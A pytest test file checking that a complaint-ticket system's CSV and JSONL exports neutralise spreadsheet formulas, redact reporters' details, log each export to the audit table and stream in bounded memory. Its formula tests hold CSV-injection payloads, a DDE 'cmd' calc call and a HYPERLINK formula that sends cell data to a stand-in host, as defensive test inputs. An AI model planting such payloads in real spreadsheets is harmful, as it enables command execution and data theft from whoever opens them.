"""Lists as files: no formula, nobody's data, nothing that the page would not show, any size in bounded memory, in the audit."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import tracemalloc
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from domain import Actor
from routing.handing_out import harmless
from storage.records import TicketQuery
from storage.store import Store
from tests.builders import NOON, mention
from tests.inbox.api_house import Api, read
from tests.inbox.casework import ACCOUNT, open_case

FORMS = ("csv", "jsonl", "sp4n.jsonl")
START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("start", START)
@pytest.mark.parametrize("before", ["", " ", "   ", "\u00a0", "\u3000 ", "\ufeff"])
def test_no_cell_is_a_formula(start: str, before: str) -> None:
    """OWASP's list, after blanks of every kind too, and the wide forms of an East Asian keyboard."""
    assert harmless(f"{before}{start}cmd|' /C calc'!A0") == f"'{before}{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["", "5-3", "a=b", "'=x", "jalan @rusak", " 12", None, 7])
def test_what_is_no_formula_stays_as_it_is(text: Any) -> None:
    assert harmless(text) == ("" if text is None else str(text))


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"http://jahat.example?\"&A1,\"klik\")", "  =1+1", "+62 lubang", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1",
    "\u200b=1+1", "\u202e=1+1"])
def test_a_post_is_no_formula_in_a_sheet(text: str, store: Store, browser_of: Any) -> None:
    """What is dropped as invisible is dropped before the cell is looked at, so it cannot hide a formula's sign."""
    open_case(store, text)
    raw = read(browser_of("alice").get("/ekspor/tiket.csv"))

    row, = rows_of(raw)
    assert row["text"].startswith(("'", "[handle]"))
    lines = list(csv.reader(io.StringIO(raw.removeprefix("\ufeff"))))
    assert all(len(line) == len(lines[0]) for line in lines)
    assert all(cell.startswith('"') and cell.endswith('"') for cell in raw.removeprefix("\ufeff").splitlines()[0].split(","))


def test_the_page_and_the_api_export_the_list_that_is_shown(store: Store, browser_of: Any, api_of: Callable[..., Api]) -> None:
    """The same filters, the same rows, by number; whole, beyond the fifty of a page."""
    numbers = [open_case(store, f"Jalan berlubang {n}", urgency="darurat" if n % 2 else "normal") for n in range(60)]
    open_case(store, "Bansos belum cair", department="dinsos-jateng", topic="bansos")
    alice, api = browser_of("alice"), api_of("dpupr-solo")

    for query, expected in (({}, numbers), ({"urgensi": "darurat"}, numbers[1::2]), ({"cari": "berlubang 7"}, [numbers[7]]),
                            ({"status": "selesai"}, [])):
        page = rows_of(read(alice.get("/ekspor/tiket.csv", query)))
        lines = [json.loads(line) for line in read(api.get("/api/v1/exports/tickets.jsonl", query)).splitlines()]
        packets = [json.loads(line) for line in read(api.get("/api/v1/exports/tickets.sp4n.jsonl", query)).splitlines()]
        assert [int(row["number"]) for row in page] == [row["number"] for row in lines] == expected
        assert [row["nomor"] for row in packets] == [f"T-{n}" for n in expected]


def test_an_export_is_in_the_audit_before_its_first_byte(store: Store, browser_of: Any, api_of: Callable[..., Api], tmp_path: Path) -> None:
    """Who, when, which form, which filters; never the words that were searched for."""
    open_case(store, "Jalan berlubang")
    browser_of("alice").get("/ekspor/tiket.csv", {"urgensi": "normal", "cari": "Siti Rahayu"})  # the body is not read
    api_of("dpupr-solo", name="sipd").get("/api/v1/exports/tickets.jsonl")

    with closing(sqlite3.connect(tmp_path / "k.db")) as connection:
        entries = connection.execute("SELECT actor, verb, after FROM audit WHERE subject = 'export'").fetchall()

    assert [(actor, verb, json.loads(after)) for actor, verb, after in entries] == [
        ("alice", "export", {"form": "csv", "status": "aktif", "urgensi": "normal", "words": True}),
        ("api:sipd", "export", {"form": "jsonl"})]
    assert store.verify() == []


@pytest.mark.parametrize("form", FORMS)
def test_no_export_says_who_reported(form: str, store: Store, browser_of: Any) -> None:
    """Number, address, account, link and key of the post stay; what staff blotted is a blot."""
    post = mention("Pak Joko Susilo, NIK 3372011208900003, WA 081234567890, @tetangga: jalan berlubang", platform="instagram",
                   account=ACCOUNT, at=NOON, url="https://www.facebook.com/joko.susilo.contoh/posts/1")
    number = open_case(store, post)
    alice = browser_of("alice")
    alice.post(f"/tiket/{number}/tutup-kata", {"version": "1", "words": "Joko Susilo", "note": "nama warga"})

    out = read(alice.get(f"/ekspor/tiket.{form}"))

    for secret in ("Joko", "Susilo", "joko", "3372011208900003", "081234567890", "tetangga", "facebook.com", post.key,
                   post.author.handle if post.author and post.author.handle else "@"):
        assert secret not in out, secret
    assert "[redacted]" in out
    assert "[nik]" in out


def test_an_operator_and_an_auditor_get_what_their_lists_show(store: Store, browser_of: Any) -> None:
    number = open_case(store, "Jalan berlubang")
    secret = open_case(store, "Anak dipukuli", department="dinsos-jateng", topic="bansos", sensitive=True)
    seen = {name: [int(row["number"]) for row in rows_of(read(browser_of(name).get("/ekspor/tiket.csv")))]
            for name in ("alice", "charlie", "citra", "ayu")}

    assert seen == {"alice": [number], "charlie": [secret], "citra": [number], "ayu": [number]}
    assert browser_of(None).get("/ekspor/tiket.csv").status_code == 302
    assert browser_of("alice").get("/ekspor/tiket.xlsx").status_code == 404


# --- any size ------------------------------------------------------------------------------------


def many(store: Store, n: int) -> None:
    """Copies of the store's first story and ticket, straight into the tables."""
    path = store.connections.path  # type: ignore[attr-defined]
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute(f"CREATE TEMP TABLE n AS WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM c WHERE i < {n})"
                           " SELECT i FROM c")
        for table, changed in (
            ("mention", {"key": "'k' || i", "cluster": "NULL"}), ("cluster", {"id": "'k' || i", "first": "'k' || i", "seq": "seq + i"}),
            ("judgement", {"mention": "'k' || i"}),
            ("ticket", {"id": "1000 + i", "cluster": "'k' || i"}),
        ):
            columns = [row[1] for row in connection.execute(f"PRAGMA table_info({table})").fetchall()]
            picked = ", ".join(changed.get(column, column) for column in columns)
            connection.execute(f"INSERT INTO {table} ({', '.join(columns)}) SELECT {picked} FROM"
                               f" (SELECT * FROM {table} ORDER BY rowid LIMIT 1), n")
        connection.execute("UPDATE mention SET cluster = key WHERE cluster IS NULL")
        connection.execute("INSERT INTO ticket_text (rowid, text) SELECT 1000 + i, f.text FROM ticket_text f, n WHERE f.rowid = 1")


@pytest.mark.slow
@pytest.mark.timeout(600)
@pytest.mark.parametrize("form", FORMS)
def test_a_list_of_any_size_in_bounded_memory(form: str, store: Store, browser_of: Any) -> None:
    """Read two hundred at a time and sent as they come: the peak is that of a page, not of the list's 8 MB and more."""
    n = 20_000
    open_case(store, "Jalan berlubang di Jebres, tolong segera ditambal " * 3, place="Jebres")
    many(store, n)
    alice = browser_of("alice")
    answer = alice.get(f"/ekspor/tiket.{form}")
    tracemalloc.start()
    size = lines = 0
    for piece in answer.streaming_content:
        size += len(piece)
        lines += piece.count(b"\n")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()

    assert lines == n + 1 + (form == "csv")
    assert size > 300 * n
    assert peak < 3_000_000, f"{peak / 1e6:.1f} MB"


def test_an_export_of_a_list_that_moves_holds_nothing_twice(store: Store) -> None:
    """It goes by number: what leaves or comes while it runs cannot make it begin anew."""
    open_case(store, "Jalan berlubang")
    many(store, 450)
    actor = Actor("alice", ("dpupr-solo",))
    rows = store.export_listed(actor, TicketQuery(limit=10**9))
    seen = [next(rows)["id"] for _ in range(200)]
    with closing(sqlite3.connect(store.connections.path)) as connection, connection:  # type: ignore[attr-defined]
        connection.execute("UPDATE ticket SET department = 'dishub-solo' WHERE id = ?", (seen[-1],))

    seen += [row["id"] for row in rows]

    assert seen == sorted(set(seen))
    assert len(seen) == 451
